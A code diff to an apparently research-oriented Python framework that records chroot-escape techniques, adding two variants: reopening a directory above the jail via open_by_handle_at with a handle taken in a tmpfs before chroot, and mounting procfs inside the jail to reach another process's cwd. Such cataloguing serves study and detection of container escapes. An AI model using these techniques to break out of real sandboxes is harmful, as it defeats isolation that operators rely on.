@@ -7,16 +7,19 @@ from attacks import namespaces
 from attacks.consts import (
     AT_FDCWD,
     CLONE_NEWNS,
+    NULL,
+    O_CREAT,
     O_DIRECTORY,
     O_PATH,
     O_RDONLY,
+    O_WRONLY,
 )
 from attacks.deputy import STOLEN_FD
 from attacks.effects import SECRET, Effect, EffectKind, Object, ObjectKind
-from attacks.family import Assumption, Family, Need, Technique
+from attacks.family import Assumption, Family, Fresh, Need, Technique
 from attacks.kernel import Kernel
 from attacks.program import Environment
-from attacks.recorder import Result
+from attacks.recorder import Buffer, Result
 
 FAMILY = Family(
     "leave-chroot",
@@ -30,12 +33,13 @@ FAMILY = Family(
     group="namespaces and mounts",
     attack_technique="T1611",
     unrecorded={
-        "open_by_handle_at with a handle made before": "not recorded yet; see open-by-handle",
-        "mount of procfs in the jail, and another process's cwd": "not recorded yet",
+        "open_tree of /.. in the jail": "dot-dot does not leave the jail; see the control",
+        "unshare(CLONE_FS)": "gives the process a copy of the root that it has",
     },
 )
 CHROOT = (Need.CAP_SYS_CHROOT,)
 JOIN = (Need.CAP_SYS_CHROOT, Need.CAP_SYS_ADMIN)
+_LARGEST = 128
 
 
 @FAMILY.variant(Technique.BASELINE, needs=CHROOT, references=("man 2 chroot",))
@@ -122,6 +126,40 @@ def setns_opened_before(k: Kernel) -> None:
 
 
 @FAMILY.variant(
+    Technique.NEWER_SYSCALL,
+    assumption=Assumption.TRUSTED_SETUP,
+    needs=JOIN,
+    fresh=(Fresh.MOUNT,),
+    objects=(Object(ObjectKind.DIRECTORY, "m", 0o755),),
+)
+def open_by_handle_at(k: Kernel) -> None:
+    """A handle says which directory of the file system is meant, and no path is walked to it."""
+    handle = _handle_in_own_file_system(k.setup)
+    k.setup.chroot(k.text("m/jail"))
+    k.setup.chdir(k.text("/"))
+    directory = k.open_by_handle_at(AT_FDCWD, handle, O_RDONLY | O_DIRECTORY).decisive()
+    _read(k, k.openat(directory, k.text("outside"), O_RDONLY))
+
+
+@FAMILY.variant(
+    Technique.PROC_INTERFACE,
+    assumption=Assumption.TRUSTED_SETUP,
+    needs=JOIN,
+    fresh=(Fresh.MOUNT,),
+)
+def mount_procfs(k: Kernel) -> None:
+    """A procfs that is mounted in the jail has links to the directories of others."""
+    k.victim.getpid()
+    _jailed(k.setup)
+    name = k.text("proc")
+    k.mount(name, k.text("in"), name, 0, NULL).decisive()
+    path = k.data(b"in/".ljust(64, b"\0"), name="path")
+    suffix = k.text("/cwd/outside")
+    k.print_number(path.at(len("in/")), k.env(Environment.VICTIM_PID), suffix)
+    _read(k, k.open(path, O_RDONLY))
+
+
+@FAMILY.variant(
     Technique.SIBLING_SYSCALL, assumption=Assumption.TRUSTED_SETUP, needs=CHROOT, negative=True
 )
 def dot_dot(k: Kernel) -> None:
@@ -138,6 +176,20 @@ def _jailed(k: Kernel) -> None:
 def _outside(k: Kernel) -> Result:
     """Before the filter: the directory above the jail."""
     return k.setup.openat(AT_FDCWD, k.text("."), O_PATH | O_DIRECTORY)
+
+
+def _handle_in_own_file_system(k: Kernel) -> Buffer:
+    """Of a directory with the secret in it, which the kernel copies past the program's memory.
+
+    Only in a file system of one's own does a handle lead to what is above the jail.
+    """
+    name, handle = k.text("tmpfs"), k.struct("II" + "Q" * 16, _LARGEST, *(0,) * 17, name="handle")
+    k.mount(name, k.text("m"), name, 0, k.text("mode=0755"))
+    k.mkdirat(AT_FDCWD, k.text("m/jail"), 0o755)
+    copy = k.open(k.text("m/outside"), O_CREAT | O_WRONLY, 0o600)
+    k.sendfile(copy, k.open(k.text("outside"), O_RDONLY), NULL, len(SECRET))
+    k.name_to_handle_at(AT_FDCWD, k.text("m"), handle, k.buffer(8, name="mount"), 0)
+    return handle
 
 
 def _learn(k: Kernel) -> None:
